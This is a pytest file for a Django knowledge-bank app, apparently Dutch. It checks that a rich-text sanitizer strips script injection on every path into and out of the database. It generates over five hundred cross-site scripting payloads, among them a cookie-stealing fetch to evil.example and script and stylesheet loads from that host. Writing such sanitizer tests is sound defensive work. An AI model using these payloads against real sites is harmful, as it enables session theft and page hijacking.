"""I3: whatever is typed, pasted, imported or written by SQL-like calls, no attack comes out again."""

import itertools
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from knowledgebank.models import Page, Story, StoryVersion, Tool, ToolStep
from network import richtext

CODE = ["alert(1)", "fetch('//evil.example/'+document.cookie)", "top.location='//evil.example'"]
SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "\x01javascript:",
    " javascript:",
    "vbscript:",
    "data:text/html,",
    "data:image/svg+xml;base64,",
    "file:///",
    "feed:javascript:",
    "jar:javascript:",
    "livescript:",
    "mocha:",
]
EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerdown",
]
CARRIERS = [
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video",
    "p style=animation:x",
    "a href=x",
    "select autofocus",
    "audio src=x",
    "marquee",
]
WHOLE = [
    "<script>{code}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{code}</scr</script>ipt>",
    "<style>@import '//evil.example';</style>",
    "<iframe srcdoc='<script>{code}</script>'></iframe>",
    "<object data='javascript:{code}'></object>",
    "<embed src='javascript:{code}'>",
    "<base href='//evil.example/'>",
    "<form action='javascript:{code}'><button>x</button></form>",
    "<meta http-equiv=refresh content='0;javascript:{code}'>",
    "<svg><script>{code}</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={code}>",
    "<noscript><p title='</noscript><img src=x onerror={code}>'>",
    "<template><script>{code}</script></template>",
    "<!--><script>{code}</script>-->",
    "<![CDATA[<script>{code}</script>]]>",
    "<?xml><script>{code}</script>",
    "<p style='background:url(javascript:{code})'>x</p>",
    "<a href='https://ok.example' onclick='{code}'>x</a>",
    "<a href='https://ok.example' target=_blank style='x'>x</a>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:{code} /><a id=x>x</a></svg>",
    "&lt;script&gt;{code}&lt;/script&gt;",
    "&amp;lt;img src=x onerror={code}&amp;gt;",
    "<p>&lt;img src=x onerror={code}&gt;</p>",
    "## <img src=x onerror={code}>",
    "> <svg onload={code}>",
    "1. <script>{code}</script>",
    "- <iframe src=javascript:{code}>",
    "**<b onmouseover={code}>**",
    "[<img src=x onerror={code}>](https://ok.example)",
    "\x00<script>{code}</script>",
    "<s\x00cript>{code}</script>",
    "\ufeff<script>{code}</script>",
    "<script\u2028>{code}</script>",
    "\u202e<script>{code}</script>",
]


def attacks() -> list[str]:
    """Over five hundred: whole tags, every carrier with every event, and links in both notations."""
    found = [text.replace("{code}", code) for text in WHOLE for code in CODE]
    found += [
        f"<{carrier} {event}={quote}{CODE[0]}{quote}>"
        for carrier, event, quote in itertools.product(CARRIERS, EVENTS, ["", '"', "'"])
    ]
    found += [f'<a href="{scheme}{CODE[0]}">klik</a>' for scheme in SCHEMES]
    found += [f"[klik]({scheme}{code})" for scheme, code in itertools.product(SCHEMES, CODE)]
    found += [
        f'[klik](https://ok.example/"{event}="{code})' for event, code in itertools.product(EVENTS, CODE)
    ]
    found += [f"[{scheme}](https://ok.example/) {scheme}{CODE[0]}" for scheme in SCHEMES]
    found += [
        f"<{tag}><img src=x {event}=1>"
        for tag, event in itertools.product(("xmp", "title", "p", "li", "q"), EVENTS)
    ]
    found += [f"<img src='x`{event}=1`' {event} = 1 //" for event in EVENTS]
    return list(dict.fromkeys(found))


ATTACKS = attacks()


class Reader(HTMLParser):
    """A browser's view of what came out: every tag, attribute and address that is not of an ordinary text."""

    def __init__(self) -> None:
        super().__init__()
        self.harm: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in richtext.TAGS:
            self.harm.append(tag)
        for name, value in attrs:
            allowed = tag == "a" and name in ("href", "rel")
            if not allowed:
                self.harm.append(f"{tag} {name}")
            if name == "href" and not (value or "").startswith(("https://", "http://", "mailto:")):
                self.harm.append(f"{tag} {value}")

    def handle_decl(self, decl):
        self.harm.append(decl)

    def handle_comment(self, data):
        self.harm.append(data)

    handle_pi = handle_decl


def harm_in(html: str) -> list[str]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.harm


def test_there_are_five_hundred_attacks_and_the_reader_sees_what_they_do():
    assert len(ATTACKS) >= 500
    assert harm_in("<p onclick=x><script></script><a href='javascript:1'>x</a><!-- y -->") == [
        "p onclick",
        "script",
        "a javascript:1",
        " y ",
    ]


def test_no_attack_survives_the_way_in_and_the_way_out():
    survivors = [
        attack
        for attack in ATTACKS
        if harm_in(richtext.from_marks(richtext.stored(attack))) or harm_in(richtext.from_marks(attack))
    ]
    assert survivors == []


def test_what_is_stored_holds_no_markup_and_no_other_address():
    stored = [richtext.stored(attack) for attack in ATTACKS]
    assert [text for text in stored if richtext.MARKUP.search(text) or richtext.BAD_TARGET.search(text)] == []
    assert [text for text in stored if richtext.stored(text) != text] == []


@pytest.mark.django_db
def test_every_way_into_the_database_stores_it_clean(network, ambassador):
    """One attack per way and field is enough here: the ways are what is tried."""
    attack = "<script>alert(1)</script>**ja** [x](javascript:1) <img src=x onerror=alert(1)>"
    clean = "**ja** x"
    page = Page.objects.create(network=network, slug="a", title="A", body=attack)
    Page.objects.bulk_create([Page(network=network, slug="b", title="B", body=attack)])
    Page.objects.create(network=network, slug="c", title="C", body="x")
    Page.objects.filter(slug="c").update(body=attack)
    Page.objects.update_or_create(network=network, slug="d", defaults={"title": "D", "body": attack})
    page.body = attack
    page.save(update_fields=["body"])
    Page.objects.bulk_update([page], ["body"])
    assert set(Page.objects.values_list("body", flat=True)) == {clean}
    assert page.history.values_list("body", flat=True)[0] == clean
    tool = Tool.objects.create(network=network, slug="t", title="T", summary="s", tips=attack, how=attack)
    step = ToolStep.objects.create(tool=tool, position=1, title="x", text=attack)
    story = Story.objects.create(network=network, person=ambassador, slug="s")
    version = StoryVersion.objects.create(story=story, number=1, title="x", body=attack, body_en=attack)
    for record in (tool, step, version):
        record.refresh_from_db()
    assert {tool.tips, tool.how, step.text, version.body, version.body_en} == {clean}


@pytest.mark.django_db
def test_no_attack_reaches_a_page(visitor, network, ambassador, today):
    story = Story.objects.create(network=network, person=ambassador, slug="s")
    values = {"approved_at": "2026-11-01T12:00:00Z", "approved_via": "link", "publish_on": today}
    everything = "\n\n".join(ATTACKS)
    StoryVersion.objects.create(story=story, number=1, title="x", body=everything, **values)
    html = visitor.get("/verhalen/s/").context["version"].html
    assert harm_in(html) == []


def test_pasted_html_becomes_marks_and_comes_out_the_same():
    pasted = (
        "<h2>Kop</h2><p>Een <strong>vet</strong> woord en <a href='https://a.example/'>een link</a>.</p>"
        "<ul><li>een</li><li>twee</li></ul><ol><li>eerst</li><li>dan</li></ol><blockquote>Gezegd.</blockquote>"
    )
    marks = richtext.stored(pasted)
    assert "<" not in marks
    html = richtext.from_marks(marks).replace("\n", "")
    assert html == (
        '<h2>Kop</h2><p>Een <strong>vet</strong> woord en <a href="https://a.example/" '
        'rel="noopener noreferrer">een link</a>.</p><ul><li>een</li><li>twee</li></ul>'
        "<ol><li>eerst</li><li>dan</li></ol>"
        "<blockquote><p>Gezegd.</p></blockquote>"
    )


def test_text_about_smaller_and_larger_is_left_alone():
    text = "Als a < b en b > c, dan 3 <4 & 5 &amp; 6.\n\n- <3 voor iedereen"
    assert richtext.stored(text) == text
    assert richtext.to_text("## Kop\n\n1. **een**\n> twee") == "Kop een twee"


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="<>/&;:#lgtampscriptonerj()[]*\"' \n\x00\u202ea1.!-", max_size=120))
def test_storing_twice_is_storing_once_and_nothing_harmful_comes_out(text):
    once = richtext.stored(text)
    assert richtext.stored(once) == once
    assert harm_in(richtext.from_marks(once)) == []
    assert harm_in(richtext.from_marks(text)) == []
